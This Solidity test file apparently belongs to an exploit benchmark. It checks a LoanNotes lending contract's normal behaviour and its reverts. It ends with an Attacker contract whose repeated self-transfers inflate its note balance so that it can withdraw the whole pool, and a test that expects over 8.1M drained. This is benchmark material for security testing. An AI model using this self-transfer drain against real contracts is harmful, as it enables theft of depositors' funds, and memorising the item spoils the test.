// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "@openzeppelin/contracts@3.4.2/token/ERC20/ERC20.sol";
import "./LoanNotes.sol";
import "./context/RateModel.sol";

// assay-canary-874319ab-0608-4fdf-939b-f3336bd5e151

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function prank(address sender) external;
    function warp(uint256 time) external;
    function expectRevert(bytes calldata reason) external;
}

contract Dollar is ERC20 {
    constructor() public ERC20("Dollar", "USD") {
        _mint(msg.sender, 100_000_000 ether);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant LENDER = address(0x1E4D);
    address internal constant DESK = address(0xDE5C);
    address internal constant OTHER = address(0x0714);
    address internal constant TREASURY = address(0x74EA);
    uint256 internal constant POOL = 8_200_000 ether;
    uint256 internal constant START = 1600000000;
    uint256 internal constant KEY = 0xA9A;

    Dollar internal usd;
    RateModel internal model;
    LoanNotes internal notes;
    Attacker internal thief;

    function setUp() public {
        vm.warp(START);
        usd = new Dollar();
        model = new RateModel(0, 0.08 ether, 0.5 ether, 0.8 ether);
        notes = new LoanNotes(usd, IRateModel(address(model)), TREASURY, 20_000_000 ether);
        notes.setDesk(DESK, POOL / 2);
        notes.setReserveFee(1000);
        usd.transfer(LENDER, POOL);
        vm.prank(LENDER);
        usd.approve(address(notes), uint256(-1));
        vm.prank(LENDER);
        notes.deposit(POOL, LENDER);
        thief = new Attacker(notes, usd);
        usd.transfer(address(thief), 100_000 ether);
        usd.approve(address(notes), uint256(-1));
    }

    function permitted(address owner, uint256 amount, uint256 nonce) internal returns (uint8, bytes32, bytes32) {
        bytes32 domain = notes.DOMAIN_SEPARATOR();
        bytes32 hash = keccak256(abi.encode(notes.PERMIT(), owner, address(this), amount, nonce, START + 1 days));
        return vm.sign(KEY, keccak256(abi.encodePacked("\x19\x01", domain, hash)));
    }

    function test_Regular() public {
        require(notes.balanceOf(LENDER) == POOL - 1e6 && notes.price() == 1 ether, "first");
        vm.prank(DESK);
        notes.borrow(POOL / 2);
        require(usd.balanceOf(DESK) == POOL / 2 && notes.cash() == POOL / 2, "lent");
        vm.warp(START + 365 days);
        notes.accrue();
        // five per cent of a half, a tenth of it for the reserves
        require(notes.debtOf(DESK) > POOL * 5249 / 10000 && notes.debtOf(DESK) <= POOL * 525 / 1000 + 1, "interest");
        require(notes.price() > 1.0224 ether && notes.price() < 1.0226 ether, "price");
        require(notes.earned(LENDER) > POOL * 2 / 100, "earned");

        vm.prank(LENDER);
        notes.transfer(OTHER, 1000 ether);
        require(notes.balanceOf(OTHER) == 1000 ether && notes.balanceOf(LENDER) == POOL - 1e6 - 1000 ether, "moved");
        require(notes.basisOf(OTHER) == notes.price() && notes.earned(OTHER) == 0, "basis");
        vm.prank(OTHER);
        notes.approve(address(this), 100 ether);
        vm.prank(OTHER);
        notes.increaseAllowance(address(this), 400 ether);
        vm.prank(OTHER);
        notes.decreaseAllowance(address(this), 100 ether);
        notes.transferFrom(OTHER, LENDER, 400 ether);
        require(notes.allowance(OTHER, address(this)) == 0, "allowance");
        vm.prank(OTHER);
        uint256 got = notes.withdraw(600 ether, OTHER);
        require(usd.balanceOf(OTHER) == got && got > 613 ether && got < 614 ether, "withdrawn");
        got = notes.deposit(1000 ether, OTHER);
        require(notes.balanceOf(OTHER) == got && got < 979 ether, "in again");

        uint256 reserves = notes.reserves();
        notes.takeReserves(reserves);
        require(usd.balanceOf(TREASURY) == reserves && reserves > 20_000 ether, "reserves");
        notes.setDesk(OTHER, 1 ether);
        vm.prank(OTHER);
        notes.borrow(1 ether);
        got = notes.repay(DESK, uint256(-1));
        require(notes.debtOf(DESK) == 0 && got > POOL / 2, "repaid");
        notes.setDesk(OTHER, 0);
        require(notes.writeOff(OTHER) == 1 ether && notes.lent() <= 1, "written off");
        usd.transfer(address(notes), 5 ether);
        notes.sweep(usd);
        require(usd.balanceOf(TREASURY) == reserves + 5 ether && notes.cash() == usd.balanceOf(address(notes)), "swept");
        notes.deposit(1 ether, address(notes));
        notes.sweep(notes);
        require(notes.balanceOf(TREASURY) > 0, "swept too");
        admin();
    }

    function admin() internal {
        address owner = vm.addr(KEY);
        notes.deposit(10 ether, owner);
        vm.warp(START);
        (uint8 v, bytes32 r, bytes32 s) = permitted(owner, 2 ether, 0);
        notes.permit(owner, address(this), 2 ether, START + 1 days, v, r, s);
        require(notes.allowance(owner, address(this)) == 2 ether, "permitted");
        vm.warp(START + 366 days);
        notes.pause();
        vm.prank(LENDER);
        notes.withdraw(1 ether, LENDER);
        notes.unpause();
        notes.setModel(IRateModel(address(new RateModel(0, 0, 0, 1))));
        notes.setTreasury(OTHER);
        notes.setCap(1 ether);
        require(notes.treasury() == OTHER && notes.cap() == 1 ether, "set");
        notes.transferOwnership(OTHER);
        vm.prank(OTHER);
        notes.renounceOwnership();
    }

    // what is refused, each from the state after setUp()

    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesNotes() public {
        vm.expectRevert("!to");
        notes.deposit(1 ether, address(0));
        vm.expectRevert("!cap");
        notes.deposit(12_000_000 ether, OTHER);
        vm.expectRevert("!notes");
        notes.deposit(0, OTHER);
        refuses(LENDER, "!amount");
        notes.withdraw(0, LENDER);
        refuses(OTHER, "!balance");
        notes.withdraw(1 ether, OTHER);
        refuses(LENDER, "!to");
        notes.transfer(address(0), 1);
        refuses(LENDER, "!to");
        notes.transfer(address(notes), 1);
        refuses(OTHER, "!balance");
        notes.transfer(LENDER, 1);
        refuses(OTHER, "!allowance");
        notes.transferFrom(LENDER, OTHER, 1);
        refuses(OTHER, "!allowance");
        notes.decreaseAllowance(LENDER, 1);
        vm.expectRevert("!spender");
        notes.approve(address(0), 1);
        LoanNotes fresh = new LoanNotes(usd, IRateModel(address(model)), TREASURY, POOL);
        usd.approve(address(fresh), 1e7);
        vm.expectRevert("!amount");
        fresh.deposit(1e6 - 1, OTHER);
        vm.expectRevert("!notes");
        fresh.deposit(1e6, OTHER);
    }

    function test_RefusesPermits() public {
        address owner = vm.addr(KEY);
        (uint8 v, bytes32 r, bytes32 s) = permitted(owner, 2 ether, 0);
        vm.expectRevert("!signer");
        notes.permit(LENDER, address(this), 2 ether, START + 1 days, v, r, s);
        vm.expectRevert("!signer");
        notes.permit(owner, address(this), 3 ether, START + 1 days, v, r, s);
        vm.warp(START + 1 days + 1);
        vm.expectRevert("!deadline");
        notes.permit(owner, address(this), 2 ether, START + 1 days, v, r, s);
        vm.warp(START);
        notes.permit(owner, address(this), 2 ether, START + 1 days, v, r, s);
        vm.expectRevert("!signer");
        notes.permit(owner, address(this), 2 ether, START + 1 days, v, r, s);
    }

    function test_RefusesDesks() public {
        refuses(OTHER, "!limit");
        notes.borrow(1);
        refuses(DESK, "!limit");
        notes.borrow(POOL / 2 + 1);
        vm.expectRevert("!amount");
        notes.repay(DESK, 1);
        vm.expectRevert("!desk");
        notes.writeOff(DESK);
        vm.expectRevert("!desk");
        notes.setDesk(address(0), 1);
        notes.setDesk(DESK, 2 * POOL);
        refuses(DESK, "!lent");
        notes.borrow(POOL * 91 / 100);
        refuses(DESK, "!cash");
        notes.borrow(POOL + 1);
        vm.prank(DESK);
        notes.borrow(POOL * 9 / 10);
        refuses(LENDER, "!cash");
        notes.withdraw(POOL / 2, LENDER);
        vm.expectRevert("!reserves");
        notes.takeReserves(1);
    }

    function test_RefusesWhilePaused() public {
        vm.expectRevert("Pausable: not paused");
        notes.unpause();
        notes.pause();
        vm.expectRevert("Pausable: paused");
        notes.pause();
        vm.expectRevert("Pausable: paused");
        notes.deposit(1 ether, OTHER);
        refuses(DESK, "Pausable: paused");
        notes.borrow(1 ether);
    }

    function test_RefusesStrangers() public {
        bytes memory why = "Ownable: caller is not the owner";
        refuses(LENDER, why);
        notes.setDesk(LENDER, 1);
        refuses(LENDER, why);
        notes.writeOff(OTHER);
        refuses(LENDER, why);
        notes.takeReserves(0);
        refuses(LENDER, why);
        notes.sweep(usd);
        refuses(LENDER, why);
        notes.setModel(IRateModel(address(model)));
        refuses(LENDER, why);
        notes.setTreasury(LENDER);
        refuses(LENDER, why);
        notes.setReserveFee(0);
        refuses(LENDER, why);
        notes.setCap(0);
        refuses(LENDER, why);
        notes.pause();
        refuses(LENDER, why);
        notes.transferOwnership(LENDER);
        refuses(LENDER, why);
        notes.renounceOwnership();
        notes.pause();
        refuses(LENDER, why);
        notes.unpause();
    }

    function test_RefusesSettings() public {
        IRateModel rates = IRateModel(address(model));
        vm.expectRevert("!dollar");
        new LoanNotes(IERC20(0), rates, TREASURY, 1);
        vm.expectRevert("!model");
        new LoanNotes(usd, IRateModel(0), TREASURY, 1);
        vm.expectRevert("!treasury");
        new LoanNotes(usd, rates, address(0), 1);
        vm.expectRevert("!model");
        notes.setModel(IRateModel(0));
        vm.expectRevert("!treasury");
        notes.setTreasury(address(0));
        vm.expectRevert("!fee");
        notes.setReserveFee(2001);
        vm.expectRevert("!kink");
        new RateModel(0, 0, 0, 0);
        vm.expectRevert("!kink");
        new RateModel(0, 0, 0, 1 ether);
        vm.expectRevert("!rate");
        new RateModel(1 ether, 1 ether, 1, 1);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(thief));
        exploit();
        require(usd.balanceOf(address(thief)) >= before + 8_100_000 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(notes);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

// Sends all its notes to itself until they would be more than there are.
contract Attacker {
    LoanNotes internal notes;
    Dollar internal usd;

    constructor(LoanNotes notes_, Dollar usd_) public {
        notes = notes_;
        usd = usd_;
    }

    function run() external {
        uint256 own = usd.balanceOf(address(this));
        usd.approve(address(notes), own);
        notes.deposit(own, address(this));
        for (uint256 i = 0; i < 8; i++) notes.transfer(address(this), notes.balanceOf(address(this)));
        notes.withdraw(notes.totalSupply(), address(this));
    }
}
